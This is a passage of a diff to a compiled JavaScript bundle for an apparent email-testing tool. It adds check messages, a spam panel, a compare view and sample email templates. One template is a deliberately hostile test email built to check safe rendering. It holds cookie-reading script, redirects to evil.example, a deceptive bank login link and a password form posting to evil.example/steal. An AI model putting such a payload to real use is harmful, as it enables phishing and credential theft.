@@ -16,6 +16,7 @@ import {
   Problem,
   RecipientChip,
   Rule,
+  SANDBOX,
   SCHEMES,
   Screen,
   Segments,
@@ -69,6 +70,7 @@ import {
   rows,
   sample,
   saved,
+  say,
   search,
   selection,
   session,
@@ -92,6 +94,63 @@ import {
   y
 } from "./c-chunk.js";
 
+// src/i18n/findings.ts
+var findings = {
+  "link.nowhere": "The link leads nowhere.",
+  "link.anchor": "Nothing in the message has this name.",
+  "link.malformed": "This is not a URL.",
+  "link.scheme": "Mail programs do not follow {scheme}: links.",
+  "link.relative": "The link has no scheme and host, and a message has no address that it could be relative to.",
+  "link.http": "The link is not encrypted: http instead of https.",
+  "link.placeholder": "A placeholder has not been filled in.",
+  "link.local": "The host is not on the internet: recipients cannot reach {host}.",
+  "link.mismatch": "The text names {shown}, but the link leads to {host}.",
+  "link.tracking": "The link has parameters that tell who follows it: {names}.",
+  "image.nosource": "The picture has no source.",
+  "image.cid": "No part of the message has this Content-ID.",
+  "image.http": "The picture is not encrypted: http instead of https.",
+  "image.pixel": "This looks like a tracking pixel.",
+  "image.alt": "There is no alt text: who sees no pictures does not know what is missing.",
+  "image.size": "Width and height are not both given, so that the layout moves when the picture loads.",
+  "reading.lang": "The html element has no lang: screen readers do not know how to pronounce the text.",
+  "reading.title": "There is no title, which some programs read out first.",
+  "reading.heading": "A heading skips levels: h{level} follows h{before}.",
+  "reading.table": 'A table for layout has no role="presentation": it is read out as a table.',
+  "reading.link": "A link has no name: neither text nor a picture with alt text is in it.",
+  "reading.vague": "The text of a link does not say where it leads.",
+  "reading.small": "Text is smaller than 12 pixels.",
+  "reading.contrast": "Text and background have a contrast of {ratio}; 4.5 is the least that reads well.",
+  "size.clipped": "The HTML has {kb} kB; Gmail cuts it off after 102 kB.",
+  "size.large": "The message has {mb} MB; many servers refuse more than 25 MB.",
+  "text.none": "There is no plain text beside the HTML; some programs show nothing else, and filters mind.",
+  "text.differs": "The plain text has only {percent} % of the words of the HTML.",
+  "list.none": "There is no List-Unsubscribe. Bulk mail needs it; single messages do not.",
+  "list.post-alone": "List-Unsubscribe-Post without List-Unsubscribe means nothing (RFC 8058).",
+  "list.no-post": "List-Unsubscribe without List-Unsubscribe-Post: large providers ask bulk senders for one click (RFC 8058).",
+  "list.post-wrong": "List-Unsubscribe-Post must be List-Unsubscribe=One-Click (RFC 8058).",
+  "list.no-https": "One click needs an https: address in List-Unsubscribe (RFC 8058).",
+  "list.unsigned": "One click counts only with a DKIM signature that covers both fields (RFC 8058).",
+  "list.good": "Recipients can leave with one click.",
+  "spam.subject-none": "The subject is empty.",
+  "spam.subject-capitals": "The subject is written in capital letters.",
+  "spam.subject-marks": "The subject shouts: it has {n} exclamation or currency signs.",
+  "spam.date": "There is no Date that can be read.",
+  "spam.message-id": "There is no Message-ID.",
+  "spam.to": "Neither To nor Cc names a recipient.",
+  "spam.reply-to": "Answers go to another domain than the message comes from: {domain}.",
+  "spam.html-alone": "There is HTML, and no plain text.",
+  "spam.pictures": "There are pictures, and hardly any text.",
+  "spam.link-address": "A link leads to a bare IP address.",
+  "spam.link-mismatch": "A link names another host than it leads to.",
+  "spam.shortener": "A link hides where it leads behind a shortener.",
+  "spam.invisible": "Text has the colour of what is behind it.",
+  "spam.form": "The HTML has a form.",
+  "spam.script": "The HTML has a script.",
+  "spam.executable": "An attachment is a program.",
+  "spam.words": "It has words that filters have seen too often.",
+  "spam.encoded": "Text that needs no encoding is in base64."
+};
+
 // src/views/message/ChecksTab.tsx
 function ChecksTab({ message: message2 }) {
   let { data, problem, again } = useFetched(`checks ${message2.id}`, (signal) => checks(message2.id, signal));
@@ -102,14 +161,19 @@ function ChecksTab({ message: message2 }) {
     message2.preview && /* @__PURE__ */ a(Section, { name: t("checks.accessibility"), findings: data.accessibility, children: /* @__PURE__ */ a(Findings, { list: data.accessibility }) }),
     /* @__PURE__ */ a(Sizes, { data }),
     message2.preview && /* @__PURE__ */ a(Text, { data }),
-    /* @__PURE__ */ a(Section, { name: t("checks.unsubscribe"), findings: data.unsubscribe, children: /* @__PURE__ */ a(Findings, { list: data.unsubscribe }) })
+    /* @__PURE__ */ a(Spam, { data }),
+    /* @__PURE__ */ a(Section, { name: t("checks.unsubscribe"), findings: data.unsubscribe, note: data.list.oneClick ? t("checks.oneClick") : void 0, children: [
+      /* @__PURE__ */ a(Findings, { list: data.unsubscribe }),
+      data.list.unsubscribe.length > 0 && /* @__PURE__ */ a("ul", { class: "things", children: data.list.unsubscribe.map((uri) => /* @__PURE__ */ a("li", { children: /* @__PURE__ */ a(Target, { url: uri }) }, uri)) }),
+      data.list.unsubscribe.length > 0 && /* @__PURE__ */ a("p", { class: "dim pad-x", children: t("checks.neverCalled") })
+    ] })
   ] }) : /* @__PURE__ */ a(Waiting, {});
 }
-function problems(findings) {
-  return findings.filter(({ level }) => level !== "note").length;
+function problems(findings2) {
+  return findings2.filter(({ level }) => level !== "note").length;
 }
-function Section({ name, findings, note, children }) {
-  let n = problems(findings);
+function Section({ name, findings: findings2, note, children }) {
+  let n = problems(findings2);
   return /* @__PURE__ */ a("details", { class: "check-of", open: n > 0, children: [
     /* @__PURE__ */ a("summary", { children: [
       /* @__PURE__ */ a("span", { class: n ? "verdict-of bad" : "verdict-of good", children: n ? count(n) : "✓" }),
@@ -125,9 +189,40 @@ function Findings({ list }) {
       t(`checks.${finding.level}`),
       " "
     ] }),
-    finding.text,
+    sentence(finding),
+    finding.points ? /* @__PURE__ */ a("span", { class: "n", children: [
+      " ",
+      t("checks.points", { points: finding.points.toFixed(1) })
+    ] }) : null,
     finding.where && /* @__PURE__ */ a("code", { dir: "auto", children: finding.where })
   ] }, at2)) });
+}
+function sentence({ code, args, text: text2 }) {
+  let known2 = findings[code];
+  return known2 ? say(known2, args) : text2;
+}
+function Target({ url }) {
+  let parts = /^(https?:\/\/)([^/?#]*)(.*)$/is.exec(url);
+  if (!parts) return /* @__PURE__ */ a("code", { title: url, children: url || "–" });
+  let [, scheme, host2, rest] = parts;
+  return /* @__PURE__ */ a("span", { class: "target", title: url, children: [
+    scheme,
+    /* @__PURE__ */ a("b", { children: host2 }),
+    rest.length > MOST ? `${rest.slice(0, MOST)}…` : rest
+  ] });
+}
+var MOST = 160;
+function Spam({ data }) {
+  let { points, limit, findings: list } = data.spam;
+  return /* @__PURE__ */ a("details", { class: "check-of", open: points >= limit, children: [
+    /* @__PURE__ */ a("summary", { children: [
+      /* @__PURE__ */ a("span", { class: points >= limit ? "verdict-of bad" : "verdict-of good", children: points.toFixed(1) }),
+      /* @__PURE__ */ a("span", { class: "name", children: t("checks.spam") }),
+      /* @__PURE__ */ a("span", { class: "dim", children: t("checks.limit", { limit: limit.toFixed(0) }) })
+    ] }),
+    /* @__PURE__ */ a(Findings, { list }),
+    /* @__PURE__ */ a("p", { class: "dim pad-x", children: t("checks.spamHint") })
+  ] });
 }
 function Links({ id, data }) {
   let [visits, setVisits] = d(), [busy, setBusy] = d(!1), web = data.links.filter(({ url }) => /^https?:/.test(url)), visit2 = async () => {
@@ -139,9 +234,9 @@ function Links({ id, data }) {
     }
     setBusy(!1);
   };
-  return /* @__PURE__ */ a(Section, { name: t("checks.links"), findings: data.links.flatMap(({ findings }) => findings), note: t("checks.count", { n: data.links.length }), children: [
+  return /* @__PURE__ */ a(Section, { name: t("checks.links"), findings: data.links.flatMap(({ findings: findings2 }) => findings2), note: t("checks.count", { n: data.links.length }), children: [
     /* @__PURE__ */ a("ul", { class: "things", children: data.links.map((link, at2) => /* @__PURE__ */ a("li", { children: [
-      /^https?:/.test(link.url) ? /* @__PURE__ */ a("a", { href: link.url, target: "_blank", rel: "noopener noreferrer nofollow", children: link.url }) : /* @__PURE__ */ a("code", { children: link.url || "–" }),
+      /^https?:/.test(link.url) ? /* @__PURE__ */ a("a", { href: link.url, title: link.url, target: "_blank", rel: "noopener noreferrer nofollow", children: /* @__PURE__ */ a(Target, { url: link.url }) }) : /* @__PURE__ */ a(Target, { url: link.url }),
       visits?.has(link.url) && /* @__PURE__ */ a(Visited, { visit: visits.get(link.url) }),
       link.text && /* @__PURE__ */ a("span", { class: "dim", dir: "auto", children: link.text }),
       /* @__PURE__ */ a(Findings, { list: link.findings })
@@ -163,8 +258,8 @@ function Visited({ visit: visit2 }) {
 }
 var KINDS = { remote: "checks.remote", inline: "checks.inline", data: "checks.inline", missing: "checks.gone" };
 function Images({ data }) {
-  return data.images.length === 0 ? null : /* @__PURE__ */ a(Section, { name: t("checks.images"), findings: data.images.flatMap(({ findings }) => findings), note: t("checks.count", { n: data.images.length }), children: /* @__PURE__ */ a("ul", { class: "things", children: data.images.map((image, at2) => /* @__PURE__ */ a("li", { children: [
-    /* @__PURE__ */ a("code", { children: image.source || "–" }),
+  return data.images.length === 0 ? null : /* @__PURE__ */ a(Section, { name: t("checks.images"), findings: data.images.flatMap(({ findings: findings2 }) => findings2), note: t("checks.count", { n: data.images.length }), children: /* @__PURE__ */ a("ul", { class: "things", children: data.images.map((image, at2) => /* @__PURE__ */ a("li", { children: [
+    /* @__PURE__ */ a(Target, { url: image.source }),
     " ",
     /* @__PURE__ */ a("span", { class: "dim", children: t(KINDS[image.kind]) }),
     image.hasAlt && image.alt && /* @__PURE__ */ a("span", { class: "dim", dir: "auto", children: [
@@ -259,17 +354,24 @@ function Text({ data }) {
   ] });
 }
 
+// src/views/compare/earlier.ts
+var MOST2 = 200;
+async function earlier(message2) {
+  let from = message2.summary.from?.[0]?.address, found = await rows({ q: from ? `from:${quoted(from)}` : "", account: "", mailbox: "" }, { offset: 0, limit: MOST2, asof: message2.uid - 1 }), kind = (subject) => subject.replace(/\d+/g, "#");
+  return found.rows.find((row) => row.id !== message2.id && kind(row.subj) === kind(message2.summary.subject));
+}
+
 // src/diff.ts
 function words(text2) {
   return text2.match(/\r?\n|[^\S\n]+|[\p{L}\p{N}_]+|[^\s\p{L}\p{N}_]/gu) ?? [];
 }
 function diff(a2, b) {
-  let start2 = 0;
-  for (; start2 < a2.length && start2 < b.length && a2[start2] === b[start2]; ) start2++;
+  let start = 0;
+  for (; start < a2.length && start < b.length && a2[start] === b[start]; ) start++;
   let end = 0;
-  for (; end < a2.length - start2 && end < b.length - start2 && a2[a2.length - 1 - end] === b[b.length - 1 - end]; ) end++;
-  let middle = trace(a2.slice(start2, a2.length - end), b.slice(start2, b.length - end));
-  return join([...a2.slice(0, start2).map(same), ...middle, ...a2.slice(a2.length - end).map(same)]);
+  for (; end < a2.length - start && end < b.length - start && a2[a2.length - 1 - end] === b[b.length - 1 - end]; ) end++;
+  let middle = trace(a2.slice(start, a2.length - end), b.slice(start, b.length - end));
+  return join([...a2.slice(0, start).map(same), ...middle, ...a2.slice(a2.length - end).map(same)]);
 }
 var same = (text2) => ({ side: 0, text: text2 });
 function trace(a2, b) {
@@ -309,10 +411,57 @@ function plain(text2, ignored) {
   return ignored.numbers && (out = out.replace(/\b(?=[\w-]*\d)[\w-]{6,}\b|\d+/g, "#")), ignored.space && (out = out.replace(/\s+/g, " ").trim()), out;
 }
 
+// src/views/compare/Texts.tsx
+function Texts({ a: a2, b, noise, onNoise }) {
+  let [numbers, setNumbers] = d(!1), [space, setSpace] = d(!1), [at2, setAt] = d(-1), changes = w(() => diff(words(plain(a2, { numbers, space })), words(plain(b, { numbers, space }))), [a2, b, numbers, space]), n = w(() => groups(changes), [changes]), text2 = T(null);
+  A(() => setAt(-1), [changes]), A(() => {
+    text2.current.querySelectorAll("[data-change]").forEach((one) => one.classList.toggle("here", Number(one.dataset.change) === at2)), text2.current.querySelector(`[data-change="${at2}"]`)?.scrollIntoView({ block: "center" });
+  }, [at2, changes]);
+  let tick = (label, on, set) => /* @__PURE__ */ a("label", { class: "tick", children: [
+    /* @__PURE__ */ a("input", { type: "checkbox", checked: on, onChange: (event) => set(event.currentTarget.checked) }),
+    " ",
+    label
+  ] });
+  return /* @__PURE__ */ a($, { children: [
+    /* @__PURE__ */ a("div", { class: "toolbar", children: [
+      /* @__PURE__ */ a("span", { class: "dim", role: "status", children: n ? at2 < 0 ? t("compare.changes", { n }) : t("compare.at", { at: at2 + 1, n }) : t("compare.same") }),
+      /* @__PURE__ */ a(Button, { label: t("compare.before"), icon: "newer", bare: !0, kind: "quiet", disabled: n === 0, onClick: () => setAt((at2 + n + (at2 < 0 ? 0 : -1)) % n) }),
+      /* @__PURE__ */ a(Button, { label: t("compare.next"), icon: "older", bare: !0, kind: "quiet", disabled: n === 0, onClick: () => setAt((at2 + 1) % n) }),
+      /* @__PURE__ */ a("span", { class: "gap" }),
+      /* @__PURE__ */ a("span", { class: "dim", children: t("compare.ignore") }),
+      onNoise && tick(t("compare.noise"), !!noise, onNoise),
+      tick(t("compare.numbers"), numbers, setNumbers),
+      tick(t("compare.space"), space, setSpace)
+    ] }),
+    /* @__PURE__ */ a("pre", { class: "plain wrap differ", tabIndex: 0, ref: text2, children: numbered(changes).map(
+      ({ side, text: run, nth }, index) => side === 0 ? run : side > 0 ? /* @__PURE__ */ a("ins", { "data-change": nth, children: [
+        /* @__PURE__ */ a("span", { class: "sr", children: [
+          t("compare.ins"),
+          " "
+        ] }),
+        run
+      ] }, index) : /* @__PURE__ */ a("del", { "data-change": nth, children: [
+        /* @__PURE__ */ a("span", { class: "sr", children: [
+          t("compare.del"),
+          " "
+        ] }),
+        run
+      ] }, index)
+    ) })
+  ] });
+}
+function numbered(changes) {
+  let nth = -1;
+  return changes.map((change, at2) => (change.side && !changes[at2 - 1]?.side && nth++, { ...change, nth }));
+}
+function groups(changes) {
+  return Math.max(-1, ...numbered(changes).filter(({ side }) => side).map(({ nth }) => nth)) + 1;
+}
+
 // src/views/compare/CompareScreen.tsx
-var KINDS2 = ["html", "text", "source", "headers", "parts"], SANDBOX = "allow-popups allow-popups-to-escape-sandbox";
+var KINDS2 = ["html", "text", "source", "headers", "parts"];
 function CompareScreen() {
-  let { name, other } = route.value, a2 = useFetched(`message ${name}`, (signal) => message(name, signal)), b = useFetched(`message ${other}`, (signal) => message(other, signal)), problem = a2.problem ?? b.problem, tab = route.value.tab || (a2.data?.preview && b.data?.preview ? "html" : "text"), items = KINDS2.map((value) => ({ value, text: t(value === "html" ? "compare.visual" : value === "source" ? "tab.html" : `tab.${value}`) }));
+  let { name, other } = route.value, [noise, setNoise] = d(!0), a2 = useFetched(`message ${name}`, (signal) => message(name, signal)), b = useFetched(`message ${other}`, (signal) => message(other, signal)), problem = a2.problem ?? b.problem, tab = route.value.tab || (a2.data?.preview && b.data?.preview ? "html" : "text"), items = KINDS2.map((value) => ({ value, text: t(value === "html" ? "compare.visual" : value === "source" ? "tab.html" : `tab.${value}`) }));
   return /* @__PURE__ */ a(
     Screen,
     {
@@ -321,14 +470,19 @@ function CompareScreen() {
       tools: /* @__PURE__ */ a($, { children: [
         a2.data && /* @__PURE__ */ a(Side, { mark: "A", message: a2.data }),
         b.data && /* @__PURE__ */ a(Side, { mark: "B", message: b.data }),
-        /* @__PURE__ */ a(Button, { label: t("compare.swap"), icon: "compare", bare: !0, kind: "quiet", onClick: () => go({ name: other, other: name }, !0) })
+        /* @__PURE__ */ a("span", { class: "ends", children: [
+          /* @__PURE__ */ a(Button, { label: t("compare.swap"), icon: "swap", bare: !0, kind: "quiet", onClick: () => go({ name: other, other: name }, !0) }),
+          a2.data && /* @__PURE__ */ a(Button, { label: t("compare.earlier"), icon: "older", bare: !0, kind: "quiet", onClick: () => {
+            further(a2.data);
+          } })
+        ] })
       ] }),
       children: [
         problem && /* @__PURE__ */ a(Failure, { text: problem, again: () => (a2.again(), b.again()) }),
         !problem && (!a2.data || !b.data) && /* @__PURE__ */ a(Waiting, {}),
         a2.data && b.data && /* @__PURE__ */ a($, { children: [
           /* @__PURE__ */ a(Tabs, { label: t("compare.kinds"), id: "cmp", items, value: tab, onChange: (value) => go({ tab: value }, !0) }),
-          /* @__PURE__ */ a("div", { class: "panel", role: "tabpanel", id: "cmp-panel", "aria-labelledby": `cmp-${tab}`, "data-tab": tab, children: tab === "html" ? /* @__PURE__ */ a(Visual, { a: a2.data, b: b.data }) : /* @__PURE__ */ a(Texts, { a: text(a2.data, tab), b: text(b.data, tab) }, tab) })
+          /* @__PURE__ */ a("div", { class: "panel", role: "tabpanel", id: "cmp-panel", "aria-labelledby": `cmp-${tab}`, "data-tab": tab, children: tab === "html" ? /* @__PURE__ */ a(Visual, { a: a2.data, b: b.data }) : /* @__PURE__ */ a(Texts, { a: text(a2.data, tab, noise), b: text(b.data, tab, noise), noise, onNoise: tab === "headers" ? setNoise : void 0 }, tab) })
         ] })
       ]
     }
@@ -341,9 +495,17 @@ function Side({ mark, message: message2 }) {
     /* @__PURE__ */ a(Link, { to: { id: message2.id }, children: /* @__PURE__ */ a("bdi", { children: message2.summary.subject || t("row.noSubject") }) })
   ] });
 }
+async function further(a2) {
+  try {
+    let found = await earlier(a2);
+    found ? go({ name: found.id }, !0) : tell(t("compare.none"));
+  } catch (cause) {
+    failed(cause);
+  }
+}
 var NOISE = /^(?:date|message-id|received|dkim-signature|x-google-|arc-)/i;
-function text(message2, tab) {
-  return tab === "source" ? message2.html ?? "" : tab === "headers" ? (message2.headers ?? []).filter(({ name }) => !NOISE.test(name)).map(({ name, body }) => `${name}: ${body.replace(/boundary="?[^";]+"?/gi, "boundary=…")}`).join(`
+function text(message2, tab, noise) {
+  return tab === "source" ? message2.html ?? "" : tab === "headers" ? (message2.headers ?? []).filter(({ name }) => !noise || !NOISE.test(name)).map(({ name, body }) => `${name}: ${noise ? body.replace(/boundary="?[^";]+"?/gi, "boundary=…") : body}`).join(`
 `) : tab === "parts" ? outline(message2.parts ?? []) : message2.text ?? "";
 }
 function outline(parts, depth = 0) {
@@ -377,102 +539,216 @@ function Visual({ a: a2, b }) {
     ] })
   ] });
 }
-function Texts({ a: a2, b }) {
-  let [numbers, setNumbers] = d(!1), [space, setSpace] = d(!1), changes = w(() => diff(words(plain(a2, { numbers, space })), words(plain(b, { numbers, space }))), [a2, b, numbers, space]), n = changes.filter(({ side }) => side).length;
-  return /* @__PURE__ */ a($, { children: [
-    /* @__PURE__ */ a("div", { class: "toolbar", children: [
-      /* @__PURE__ */ a("span", { class: "dim", role: "status", children: n ? t("compare.changes", { n }) : t("compare.same") }),
-      /* @__PURE__ */ a("span", { class: "gap" }),
-      /* @__PURE__ */ a("label", { class: "tick", children: [
-        /* @__PURE__ */ a("input", { type: "checkbox", checked: numbers, onChange: (event) => setNumbers(event.currentTarget.checked) }),
-        " ",
-        t("compare.numbers")
-      ] }),
-      /* @__PURE__ */ a("label", { class: "tick", children: [
-        /* @__PURE__ */ a("input", { type: "checkbox", checked: space, onChange: (event) => setSpace(event.currentTarget.checked) }),
-        " ",
-        t("compare.space")
-      ] })
-    ] }),
-    /* @__PURE__ */ a("pre", { class: "plain wrap differ", tabIndex: 0, children: changes.map(
-      ({ side, text: run }, at2) => side === 0 ? run : side > 0 ? /* @__PURE__ */ a("ins", { children: [
-        /* @__PURE__ */ a("span", { class: "sr", children: [
-          t("compare.ins"),
-          " "
-        ] }),
-        run
-      ] }, at2) : /* @__PURE__ */ a("del", { children: [
-        /* @__PURE__ */ a("span", { class: "sr", children: [
-          t("compare.del"),
-          " "
-        ] }),
-        run
-      ] }, at2)
-    ) })
-  ] });
-}
 
-// src/views/layers/InjectSheet.tsx
-var FORMS = ["text", "html", "raw"];
-function start() {
+// src/templates.ts
+function head(subject, now2, more = []) {
+  return ["From: Shop <app@shop.example>", "To: Anna Berg <anna@customers.example>", `Subject: ${subject}`, `Date: ${now2.toUTCString().replace("GMT", "+0000")}`, `Message-ID: <${now2.getTime()}@shop.example>`, "MIME-Version: 1.0", ...more].join(`
+`);
+}
+var HOSTILE = `<!doctype html><html lang="en"><head><title>Your account</title>
+<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<link rel="stylesheet" href="https://evil.example/style.css">
+<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/css.png) }</style>
+<script>top.location = "https://evil.example/"; alert(document.cookie)<\/script></head>
+<body onload="alert('onload')">
+<h1>Your account will be closed</h1>
+<p><img src="https://tracker.example/open.gif?u=anna" width="1" height="1" onerror="alert('onerror')"></p>
+<p><a href="javascript:alert('link')">Confirm now</a> or <a href="https://evil.example/login">https://bank.example/login</a></p>
+<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert('focus')"><button>Log in</button></form>
+<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
+<svg><script>alert('svg')<\/script></svg>
+</body></html>`, EVENT = `BEGIN:VCALENDAR
+VERSION:2.0
+PRODID:-//mailsink//composer//EN
+METHOD:REQUEST
+BEGIN:VEVENT
+UID:meeting-1@shop.example
+DTSTAMP:20261122T090000Z
+DTSTART:20261201T130000Z
+DTEND:20261201T140000Z
+SUMMARY:Review of the new shop
+LOCATION:Room 3
+ORGANIZER:mailto:app@shop.example
+ATTENDEE;RSVP=TRUE:mailto:anna@customers.example
+END:VEVENT
+END:VCALENDAR`, TEMPLATES = [
+  {
+    name: "template.hostile",
+    make: (now2) => `${head("Your account will be closed", now2, ["Content-Type: text/html; charset=utf-8"])}
+
+${HOSTILE}
+`
+  },
+  {
+    name: "template.broken",
+    make: (now2) => `${head("=?utf-8?B?QnJva2Vu?= =?utf-8?Q?_MIME=", now2, ['Content-Type: multipart/mixed; boundary="never"', "Content-Transfer-Encoding: 9bit", "no colon in this line", "Content-Type: text/plain"])}
+
+--other
+Content-Type: text/html; charset=no-such-charset
+Content-Transfer-Encoding: base64
+
+!!! this is not base64 !!!
+--other
+Content-Type: image/png; name*=utf-8''%E2%82%ZZ.png
+
+nothing ends here
+`
+  },
+  {
+    name: "template.nested",
+    make: (now2) => {
+      let open = Array.from({ length: 30 }, (_, at2) => `Content-Type: multipart/mixed; boundary="b${at2}"
+
+--b${at2}
+`).join(""), close = Array.from({ length: 30 }, (_, at2) => `--b${29 - at2}--
+`).join("");
+      return `${head("Thirty parts deep", now2)}
+${open}Content-Type: text/plain; charset=utf-8
+
+The bottom.
+${close}`;
+    }
+  },
+  {
+    name: "template.rtl",
+    make: (now2) => `${head("=?utf-8?B?2KrZhSDYtNit2YYg2LfZhNio2YM=?=", now2, ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit"])}
+
+<html lang="ar" dir="rtl"><body><h1>تم شحن طلبك</h1><p>مرحبا آنا، طردك في الطريق إليك. الرمز: <bdi>482913</bdi></p></body></html>
+`
+  },
+  {
+    name: "template.long",
+    make: (now2) => `${head(`${"Donaudampfschifffahrtsgesellschaft".repeat(12)} ${"and so on ".repeat(60)}`, now2, ["Content-Type: text/plain; charset=utf-8"])}
+
+${"x".repeat(5e3)}
+${"https://shop.example/" + "path/".repeat(300)}
+`
+  },
+  {
+    name: "template.bounce",
+    make: (now2) => `${head("Undelivered Mail Returned to Sender", now2, ["Auto-Submitted: auto-replied", 'Content-Type: multipart/report; report-type=delivery-status; boundary="r"']).replace("Shop <app@shop.example>", "MAILER-DAEMON@mail.shop.example")}
+
+--r
+Content-Type: text/plain; charset=us-ascii
+
+The message could not be delivered.
+--r
+Content-Type: message/delivery-status
+
+Reporting-MTA: dns; mail.shop.example
+
+Final-Recipient: rfc822; nobody@customers.example
+Action: failed
+Status: 5.1.1
+Diagnostic-Code: smtp; 550 5.1.1 no such user
+--r
+Content-Type: message/rfc822
+
+From: app@shop.example
+To: nobody@customers.example
+Subject: Your order
+
+Hello.
+--r--
+`
+  },
+  {
+    name: "template.invitation",
+    make: (now2) => `${head("Review of the new shop", now2, ['Content-Type: multipart/alternative; boundary="c"'])}
+
+--c
+Content-Type: text/plain; charset=utf-8
+
+You are invited.
+--c
+Content-Type: text/calendar; charset=utf-8; method=REQUEST
+
+${EVENT}
+--c--
+`
+  }
+];
+
+// src/views/layers/letter.ts
+function begin() {
   let message2 = route.value.id ? messages.shown.peek().message : void 0, rcpt = message2?.envelope.recipients[0]?.original, subject = message2?.summary.subject ?? "";
   return {
     from: rcpt ?? "app@shop.example",
     to: message2?.summary.replyTo?.[0]?.address ?? message2?.summary.from?.[0]?.address ?? "anna@customers.example",
+    cc: "",
     subject: message2 ? /^re:/i.test(subject) ? subject : `Re: ${subject}` : "",
     text: message2?.text ? `
 
 ${message2.text.replace(/^/gm, "> ").trimEnd()}
 ` : "",
     html: "<p>Hello</p>",
-    raw: sample(/* @__PURE__ */ new Date())
+    raw: sample(/* @__PURE__ */ new Date()).replaceAll(`\r
+`, `
+`),
+    files: []
   };
 }
-var addresses = (list) => list.split(/[\s,;]+/).filter(Boolean);
-function InjectSheet({ onClose }) {
-  let [letter, setLetter] = d(start), [form, setForm] = d("text"), [times, setTimes] = d(1), [busy, setBusy] = d(!1), [problem, setProblem] = d(""), [sent, setSent] = d([]), set = (change) => setLetter({ ...letter, ...change }), send = async (event) => {
-    event.preventDefault(), setBusy(!0), setProblem("");
+function addresses(list) {
+  return list.split(/[\s,;]+/).filter(Boolean);
+}
+function enclose(file) {
+  return new Promise((resolve, reject) => {
+    let reader = new FileReader();
+    reader.onload = () => resolve({ filename: file.name, type: file.type || "application/octet-stream", size: file.size, content: String(reader.result).replace(/^[^,]*,/, "") }), reader.onerror = () => reject(reader.error ?? new Error(file.name)), reader.readAsDataURL(file);
+  });
+}
+function composition(letter, html) {
+  let { from, subject, text: text2, files } = letter, attachments = files.map(({ filename, type, content }) => ({ filename, type, content })), cc = addresses(letter.cc);
+  return { from, to: addresses(letter.to), subject, text: text2, ...cc.length && { cc }, ...html && { html: letter.html }, ...attachments.length && { attachments } };
+}
+
+// src/views/layers/InjectSheet.tsx
+var FORMS = ["text", "html", "raw"];
+function useSending(letter, form, times) {
+  let [busy, setBusy] = d(!1), [problem, setProblem] = d(""), [sent, setSent] = d([]);
+  return { busy, problem, sent, send: async (event) => {
+    event.preventDefault(), setBusy(!0), setProblem(""), setSent([]);
     try {
       let ids = [];
-      for (let n = 0; n < times; n++) {
-        let { from, subject, text: text2, html } = letter, to = addresses(letter.to);
-        ids = (form === "raw" ? await injectTo(letter.raw, from, to) : await compose({ from, to, subject, text: text2, ...form === "html" && { html } })).ids;
-      }
+      for (let n = 0; n < times; n++)
+        ids = (form === "raw" ? await injectTo(letter.raw.replace(/\r?\n/g, `\r
+`), letter.from, addresses(letter.to)) : await compose(composition(letter, form === "html"))).ids;
       setSent(ids);
     } catch (cause) {
       setProblem(cause instanceof Error ? cause.message : String(cause));
     }
     setBusy(!1);
+  } };
+}
+function InjectSheet({ onClose }) {
+  let [letter, setLetter] = d(begin), [form, setForm] = d("text"), [times, setTimes] = d(1), { busy, problem, sent, send } = useSending(letter, form, times), set = (change) => setLetter((old) => ({ ...old, ...change })), take = (name) => {
+    let template = TEMPLATES.find((one) => one.name === name);
+    template && (set({ raw: template.make(/* @__PURE__ */ new Date()) }), setForm("raw"));
   }, forms = FORMS.map((value) => ({ value, text: t(`inject.${value}`) }));
   return /* @__PURE__ */ a(Dialog, { title: t("inject.title"), class: "inject", onClose, children: /* @__PURE__ */ a("form", { class: "stack", onSubmit: (event) => {
     send(event);
   }, children: [
     /* @__PURE__ */ a("p", { class: "notebar calm", children: t("inject.stays") }),
     /* @__PURE__ */ a("div", { class: "pair", children: [
-      /* @__PURE__ */ a("label", { children: [
-        "MAIL FROM",
-        /* @__PURE__ */ a("input", { class: "inp", value: letter.from, autocomplete: "off", spellcheck: !1, onInput: (event) => set({ from: event.currentTarget.value }) })
-      ] }),
-      /* @__PURE__ */ a("label", { children: [
-        "RCPT TO",
-        /* @__PURE__ */ a("input", { class: "inp", value: letter.to, required: !0, autocomplete: "off", spellcheck: !1, onInput: (event) => set({ to: event.currentTarget.value }) })
+      /* @__PURE__ */ a(Field, { name: "MAIL FROM", value: letter.from, set: (from) => set({ from }) }),
+      /* @__PURE__ */ a(Field, { name: "RCPT TO", value: letter.to, required: !0, set: (to) => set({ to }) })
+    ] }),
+    form !== "raw" && /* @__PURE__ */ a("div", { class: "pair", children: [
+      /* @__PURE__ */ a(Field, { name: t("inject.subject"), value: letter.subject, first: !0, set: (subject) => set({ subject }) }),
+      /* @__PURE__ */ a(Field, { name: t("msg.cc"), value: letter.cc, set: (cc) => set({ cc }) })
+    ] }),
+    /* @__PURE__ */ a("div", { class: "one-line", children: [
+      /* @__PURE__ */ a(Segments, { label: t("inject.form"), options: forms, value: form, onChange: setForm }),
+      /* @__PURE__ */ a("span", { class: "gap" }),
+      /* @__PURE__ */ a("select", { class: "inp template", "aria-label": t("inject.template"), value: "", onChange: (event) => take(event.currentTarget.value), children: [
+        /* @__PURE__ */ a("option", { value: "", children: t("inject.template") }),
+        TEMPLATES.map(({ name }) => /* @__PURE__ */ a("option", { value: name, children: t(name) }, name))
       ] })
     ] }),
-    form !== "raw" && /* @__PURE__ */ a("label", { children: [
-      t("inject.subject"),
-      /* @__PURE__ */ a("input", { class: "inp", value: letter.subject, autofocus: !0, onInput: (event) => set({ subject: event.currentTarget.value }) })
-    ] }),
-    /* @__PURE__ */ a(Segments, { label: t("inject.form"), options: forms, value: form, onChange: setForm }),
     /* @__PURE__ */ a("textarea", { class: "inp", rows: 9, "aria-label": t(`inject.${form}`), spellcheck: form === "text", value: letter[form], onInput: (event) => set({ [form]: event.currentTarget.value }) }),
+    form !== "raw" && /* @__PURE__ */ a(Files, { files: letter.files, set: (files) => set({ files }) }),
     problem && /* @__PURE__ */ a("p", { class: "bad", role: "alert", children: problem }),
-    sent.length > 0 && /* @__PURE__ */ a("p", { class: "ok", role: "status", children: [
-      t("inject.sent"),
-      " ",
-      sent.map((id) => /* @__PURE__ */ a("span", { onClick: () => layer.value = "", children: [
